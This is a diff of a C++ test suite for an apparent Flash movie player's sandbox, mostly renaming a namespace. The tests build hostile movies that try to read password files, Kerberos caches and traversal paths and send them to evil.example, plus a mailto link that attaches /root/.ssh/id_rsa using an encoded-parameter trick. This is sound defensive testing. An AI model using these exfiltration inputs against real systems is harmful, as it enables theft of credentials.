@@ -15,7 +15,7 @@ namespace mc {
 namespace {
 
 namespace fs = std::filesystem;
-using swftest::Actions;
+using moviemaker::Actions;
 
 void writeText(const fs::path& path, std::string_view text) {
     std::ofstream(path, std::ios::binary) << text;
@@ -98,12 +98,12 @@ Actions exfiltratingLoader(std::string_view out) {
 
 // A button covering the stage's top left 100 by 100 pixels; its release and a press of
 // the "g" key run `actions`.
-void placeButton(swftest::SwfWriter& movie, const Actions& actions) {
+void placeButton(moviemaker::SwfWriter& movie, const Actions& actions) {
     const uint16_t box = rectangleShape(movie, {0, 0, 0, 255}, 0, 0, 2000, 2000);
-    swftest::Button b;
+    moviemaker::Button b;
     b.records = {{0x0F, box, 1, {}, {}}};
     b.conditions = {{0x0008, actions}, {static_cast<uint16_t>('g' << 9), actions}};
-    swftest::PlaceObject place;
+    moviemaker::PlaceObject place;
     place.depth = 1;
     place.characterId = movie.defineButton2(b);
     movie.placeObject(place);
@@ -118,7 +118,7 @@ TEST_F(StrangerMovieTest, APlainMovieReadsItsOwnFolderAndNothingALinkOrPathLeads
     fs::create_symlink(folder_ / "vars.txt", folder_ / "sub" / "again.txt");
     ASSERT_EQ(::mkfifo((folder_ / "pipe").c_str(), 0600), 0);
 
-    swftest::SwfWriter movie(version8());
+    moviemaker::SwfWriter movie(version8());
     Actions a = exfiltratingLoader("https://evil.example/?d=");
     for (const char* name :
          {"passwd", "environ", "etc/hostname", "up/krb5cc_1000", "../krb5cc_1000", "zero", "pipe",
@@ -159,7 +159,7 @@ TEST_F(StrangerMovieTest, TheFolderIsTheMoviesRealOneAndLargeFilesAreRefusedWhol
 TEST_F(StrangerMovieTest, ACardsMovieFindsNothingBesideItHoweverManyNamesItTries) {
     // The card's movie sits in the temporary folder among other programs' files.
     writeText(folder_ / "krb5cc_1000", "name=planted");
-    swftest::SwfWriter movie(version8());
+    moviemaker::SwfWriter movie(version8());
     Actions a = exfiltratingLoader("https://evil.example/?d=");
     for (int i = 0; i < 2000; ++i) {
         a.callMethod("lv", "load", {"krb5cc_" + std::to_string(i)});
@@ -180,7 +180,7 @@ TEST_F(StrangerMovieTest, ACardsMovieFindsNothingBesideItHoweverManyNamesItTries
 }
 
 TEST_F(StrangerMovieTest, PagesOpenOnlyForAClickOrKeyAndOneEach) {
-    swftest::SwfWriter movie(version8());
+    moviemaker::SwfWriter movie(version8());
     Actions threePages;
     for (int i = 1; i <= 3; ++i) {
         threePages.getUrl("https://example.org/" + std::to_string(i), "_blank");
@@ -213,7 +213,7 @@ TEST_F(StrangerMovieTest, PagesOpenOnlyForAClickOrKeyAndOneEach) {
 }
 
 TEST_F(StrangerMovieTest, AfterReadingALocalFileAClickedPageIsAskedForFirst) {
-    swftest::SwfWriter movie(version8());
+    moviemaker::SwfWriter movie(version8());
     placeButton(movie, Actions()
                            .push("https://example.org/?v=")
                            .push("name")
@@ -241,7 +241,7 @@ TEST_F(StrangerMovieTest, AfterReadingALocalFileAClickedPageIsAskedForFirst) {
 }
 
 TEST_F(StrangerMovieTest, LongAddressesAndMailAttachmentsNeverLeave) {
-    swftest::SwfWriter movie(version8());
+    moviemaker::SwfWriter movie(version8());
     // u = "https://example.org/?" + 16 KB; u = u + u + u + u; getURL(u): over 64 KB.
     Actions huge;
     huge.push("u").push("https://example.org/?" + std::string(16 * 1024, 'a')).code(0x1D);
@@ -250,7 +250,7 @@ TEST_F(StrangerMovieTest, LongAddressesAndMailAttachmentsNeverLeave) {
     huge.push("u").code(0x1C).push("_blank").getUrl2(0);
     placeButton(movie, huge);
     movie.showFrame();
-    swftest::SwfWriter mail(version8());
+    moviemaker::SwfWriter mail(version8());
     placeButton(
         mail, Actions().getUrl(
                   "mailto:a@example.org?attach=/root/.ssh/id_rsa&subject=Hi&%61ttach=x", "_blank"));
